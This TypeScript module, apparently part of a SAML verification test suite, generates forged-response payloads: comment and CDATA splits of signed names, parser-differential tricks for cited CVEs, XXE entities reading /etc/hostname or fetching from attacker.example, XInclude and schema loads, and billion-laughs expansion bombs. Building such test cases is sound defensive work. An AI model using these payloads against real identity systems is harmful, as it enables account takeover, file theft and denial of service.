/** Markup that hides or splits text, and everything that begins with a document type (T10 to T13, T17 to T19). */
import { text } from '../xml-text.ts'
import { type Draft, draft } from './attack.ts'
import { DS, EVIL_ASSERTION, EVIL_RESPONSE, type Material } from './material.ts'
import { appended, before, changed } from './outline.ts'
import { forgedInPlace } from './references.ts'
import { signedAs } from './wrapping.ts'

export const markup = (m: Material): readonly Draft[] => [
  ...splits(m),
  ...differentials(m),
  ...types(m),
  ...entities(m),
]

/**
 * Markup inside a signed name. Comments do not count in canonical form and CDATA is text there, so the signature holds;
 * a reader that takes the first piece, or the last, sees another person. With the identity provider's keys, the account
 * was made for it: the victim's name is its beginning or its end.
 */
function splits(m: Material): readonly Draft[] {
  const { nameId: victim } = m.genuine.victim
  const half = Math.max(1, Math.floor(m.nameId.length / 2))
  const keys = m.genuine.idpKeys
  const parts = (first: boolean): readonly [string, string] =>
    keys === undefined
      ? [m.nameId.slice(0, half), m.nameId.slice(half)]
      : first
        ? [victim, '.attacker.example']
        : ['not-', victim]
  const build = (first: boolean, join: (a: string, b: string) => string) => () => {
    const [a, b] = parts(first)
    const whole = text(a + b)
    const xml = keys === undefined ? m.xml : m.fake(keys, { nameId: { value: a + b } }, true)
    return changed(xml, `>${whole}</`, `>${join(text(a), text(b))}</`)
  }
  const attribute = Object.entries(m.genuine.victim.attributes ?? {})[0]
  const inAttribute = (join: (a: string, b: string) => string) => () => {
    if (attribute === undefined || keys === undefined) return build(true, join)()
    const [name, value] = attribute
    const xml = m.fake(keys, { attributes: { [name]: [`${value}.attacker.example`] } }, true)
    return changed(xml, `>${text(value)}.attacker.example</`, `>${join(text(value), '.attacker.example')}</`)
  }
  const all = [
    draft(
      'T10-comment',
      "A comment behind the victim's name",
      build(true, (a, b) => `${a}<!---->${b}`),
    ),
    draft(
      'T10-comment-before',
      "A comment before the victim's name",
      build(false, (a, b) => `${a}<!---->${b}`),
    ),
    draft(
      'T10-comment-text',
      'A comment that closes the element for a careless reader',
      build(true, (a, b) => `${a}<!--</${m.saml}NameID>-->${b}`),
    ),
    draft(
      'T10-attribute',
      'A comment inside an attribute value',
      inAttribute((a, b) => `${a}<!-- -->${b}`),
    ),
    draft('T10-issuer', 'A comment inside the Issuer', () =>
      changed(m.xml, new RegExp(`(?=</${m.saml}Issuer>)`), '<!---->'),
    ),
    draft('T10-between', 'A comment between elements', () => before(m.xml, `<${m.saml}Subject>`, '<!-- x -->')),
    draft(
      'T11-instruction',
      'A processing instruction swallows the beginning of the name',
      build(false, (a, b) => `<?p ${a}?>${b}`),
    ),
    draft(
      'T11-instruction-after',
      'A processing instruction swallows the end of the name',
      build(true, (a, b) => `${a}<?p ${b}?>`),
    ),
    draft(
      'T11-instruction-between',
      'A processing instruction splits the name',
      build(true, (a, b) => `${a}<?p?>${b}`),
    ),
    draft(
      'T11-stylesheet',
      'A style sheet for the message',
      () => `<?xml-stylesheet type="text/xsl" href="https://attacker.example/x.xsl"?>${m.xml}`,
    ),
    draft(
      'T12-cdata',
      "The victim's name in CDATA, the rest behind",
      build(true, (a, b) => `<![CDATA[${a}]]>${b}`),
    ),
    draft(
      'T12-cdata-end',
      'The rest of the name in CDATA',
      build(true, (a, b) => `${a}<![CDATA[${b}]]>`),
    ),
    draft(
      'T12-cdata-twice',
      'The name in two CDATA sections',
      build(true, (a, b) => `<![CDATA[${a}]]><![CDATA[${b}]]>`),
    ),
    draft(
      'T12-cdata-empty',
      'An empty CDATA section splits the name',
      build(true, (a, b) => `${a}<![CDATA[]]>${b}`),
    ),
    draft(
      'T12-attribute',
      'CDATA inside an attribute value',
      inAttribute((a, b) => `${a}<![CDATA[${b}]]>`),
    ),
  ]
  const split = (one: Draft) => !['T10-issuer', 'T10-between', 'T11-stylesheet'].includes(one.id)
  const accounts = [
    parts(true).join(''),
    parts(false).join(''),
    ...(attribute ? [`${attribute[1]}.attacker.example`] : []),
  ]
  return all.map((one) => (keys !== undefined && split(one) ? { ...one, accounts } : one))
}

/** One text, two documents: what one parser takes for a comment is the message to the other. */
function differentials(m: Material): readonly Draft[] {
  const end = `</${m.samlp}Response>`
  const open = (xml: string) => xml.slice(0, xml.lastIndexOf(end))
  const { own, open: forged } = forgedInPlace(m)
  const genuineSignature = own
    .replace(new RegExp(`^<${m.ds}Signature[^>]*>`), '<Signature>')
    .replace(new RegExp(`</${m.ds}Signature>$`), '</Signature>')
  const declaration = `xmlns${m.ds ? `:${m.ds.slice(0, -1)}` : ''}="${DS}"`
  return [
    draft(
      'T13-quoted-type',
      'A quote in the document type decides which half is a comment (CVE-2025-25291)',
      () =>
        `<!DOCTYPE response SYSTEM 'x"><!--'>\n${open(m.forgedResponse)}<![CDATA[-->\n${open(m.xml)}<!--]]>-->\n${end}`,
    ),
    draft(
      'T13-quoted-type-reversed',
      'The same, the signed message in the first half',
      () =>
        `<!DOCTYPE response SYSTEM 'x"><!--'>\n${open(m.xml)}<![CDATA[-->\n${open(m.forgedResponse)}<!--]]>-->\n${end}`,
    ),
    draft('T13-default-namespace', 'A Signature whose namespace comes from an ATTLIST (CVE-2025-25292)', () => {
      const lie = changed(own, /(?<=DigestValue>)[^<]*/, '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=')
      const status = `<${m.samlp}StatusDetail>${genuineSignature}</${m.samlp}StatusDetail>`
      const xml = before(forged(lie), `</${m.samlp}Status>`, status)
      const type = `<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "${DS}" xmlns CDATA "block">]>`
      return type + xml.replace(/^<[^\s>]+/, (tag) => (m.ds ? `${tag} ${declaration}` : tag))
    }),
    draft('T13-closed-comment', 'A comment that ends early for some parsers', () =>
      changed(m.xml, m.assertion, `<!-- --!>${m.forgedAssertion}<!-- -->${m.assertion}`),
    ),
    draft('T13-cdata-close', 'A CDATA end outside of CDATA', () =>
      changed(m.xml, m.assertion, `]]>${m.forgedAssertion}${m.assertion}`),
    ),
    draft('T13-attribute-tag', 'A forged Assertion inside an attribute value, with raw tags', () =>
      changed(m.xml, m.assertion, `<x a="${m.forgedAssertion.replaceAll('"', "'")}"></x>${m.assertion}`),
    ),
    draft('T13-case', 'A forged assertion in lower case before the signed one', () =>
      changed(
        m.xml,
        m.assertion,
        m.forgedAssertion.replaceAll(`${m.saml}Assertion`, `${m.saml}assertion`) + m.assertion,
      ),
    ),
  ]
}

const typed = (subset: string, xml: string, name = 'r') => `<!DOCTYPE ${name} [${subset}]>${xml}`

function types(m: Material): readonly Draft[] {
  const qualified = `${m.saml}Assertion`
  const noId = (xml: string) => changed(xml, ` ID="${EVIL_ASSERTION}"`, '')
  return [
    draft('T17-type', 'A document type and nothing else', () => `<!DOCTYPE r>${m.xml}`),
    draft('T17-type-after', 'A document type behind the message', () => `${m.xml}<!DOCTYPE r>`),
    draft('T17-lower-case', 'A document type in lower case', () => `<!doctype r>${m.xml}`),
    draft('T17-default-id', 'A forged Assertion that gets the signed ID by default', () => {
      const evil = signedAs(m, noId(m.forgedAssertion), m.assertionSignature || m.responseSignature)
      return typed(
        `<!ATTLIST ${qualified} ID CDATA "${m.assertionId}">`,
        changed(m.bareResponse, m.assertion, evil + m.bareAssertion),
      )
    }),
    draft('T17-declared-id', 'A document type that calls another attribute the ID', () =>
      typed(
        `<!ATTLIST ${qualified} IssueInstant ID #IMPLIED>`,
        changed(m.xml, m.assertion, m.forgedAssertion + m.assertion),
      ),
    ),
    draft('T17-entity-text', 'An entity that says what the signed text said', () =>
      typed(`<!ENTITY e "${text(m.nameId)}">`, changed(m.xml, `>${text(m.nameId)}</`, '>&e;</')),
    ),
    draft('T17-entity-id', 'An ID built of an entity (CVE-2025-23369)', () => {
      const id = m.responseSignature ? m.responseId : m.assertionId
      const signature = m.responseSignature || m.assertionSignature
      const inner = m.responseSignature ? m.bareResponse : m.bareAssertion
      const evil = before(
        m.forgedResponse,
        `<${m.samlp}Status>`,
        appended(signature, `<${m.ds}Object>${inner.replace(id, `&p;${id}`)}</${m.ds}Object>`),
      )
      return typed(`<!ENTITY i "${id}"><!ENTITY p "&#x50;">`, changed(evil, EVIL_RESPONSE, '&i;'))
    }),
    draft('T17-entity-assertion', 'The forged Assertion inside an entity', () =>
      typed(
        `<!ENTITY e '${m.forgedAssertion.replaceAll("'", '&#39;')}'>`,
        changed(m.xml, m.assertion, `&e;${m.assertion}`),
      ),
    ),
    draft('T17-notation', 'A notation and an unparsed entity', () =>
      typed('<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u" NDATA n>', m.xml),
    ),
    draft('T17-conditional', 'A parameter entity that makes declarations', () =>
      typed('<!ENTITY % d "<!ATTLIST r a CDATA \'1\'>"> %d;', m.xml),
    ),
  ]
}

function entities(m: Material): readonly Draft[] {
  const inName = (reference: string) => changed(m.xml, `>${text(m.nameId)}</`, `>${reference}</`)
  const external = (uri: string) => typed(`<!ENTITY e SYSTEM "${uri}">`, inName('&e;'))
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  const include = (href: string) =>
    changed(
      m.xml,
      m.assertion,
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${href}" parse="text"/>${m.assertion}`,
    )
  const hint = (name: string) =>
    m.xml.replace(
      /^<[^\s>]+/,
      (tag) =>
        `${tag} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:${name}="urn:x https://attacker.example/x.xsd"`,
    )
  return [
    draft('T18-file', 'An external entity: a file', () => external('file:///etc/hostname')),
    draft('T18-http', 'An external entity: an address on the network', () => external('http://attacker.example/x')),
    draft('T18-php', 'An external entity: a stream filter', () =>
      external('php://filter/convert.base64-encode/resource=/etc/hostname'),
    ),
    draft(
      'T18-public',
      'A public external document type',
      () => `<!DOCTYPE r PUBLIC "x" "http://attacker.example/x.dtd">${m.xml}`,
    ),
    draft('T18-parameter', 'A parameter entity from the network', () =>
      typed('<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;', m.xml),
    ),
    draft('T18-xinclude', 'XInclude of a file', () => include('file:///etc/hostname')),
    draft('T18-schema-location', 'A schema to load', () => hint('schemaLocation')),
    draft('T18-no-namespace-schema', 'A schema to load for what has no namespace', () =>
      hint('noNamespaceSchemaLocation'),
    ),
    draft(
      'T18-stylesheet',
      'A style sheet from the network',
      () => `<?xml-stylesheet href="http://attacker.example/x.css"?>${m.xml}`,
    ),
    draft('T19-laughs', 'Ten levels of entities, ten of the next in each', () =>
      typed(`<!ENTITY l0 "ha">${laughs}`, inName('&l10;')),
    ),
    draft('T19-laughs-attribute', 'The same inside an attribute', () =>
      typed(
        `<!ENTITY l0 "ha">${laughs}`,
        m.xml.replace(/^<[^\s>]+/, (tag) => `${tag} Consent="&l10;"`),
      ),
    ),
    draft('T19-quadratic', 'One long entity, a thousand times', () =>
      typed(`<!ENTITY e "${'a'.repeat(50_000)}">`, inName('&e;'.repeat(1000))),
    ),
    draft('T19-recursive', 'Two entities that hold each other', () =>
      typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', inName('&a;')),
    ),
    draft('T19-parameter-laughs', 'Parameter entities that double', () =>
      typed(
        `<!ENTITY % p0 "<!ENTITY e 'x'>">${Array.from({ length: 20 }, (_, n) => `<!ENTITY % p${n + 1} "&#37;p${n};&#37;p${n};">`).join('')}%p20;`,
        m.xml,
      ),
    ),
    draft('T19-undeclared', 'An entity that nobody declared', () => inName('&e;')),
  ]
}
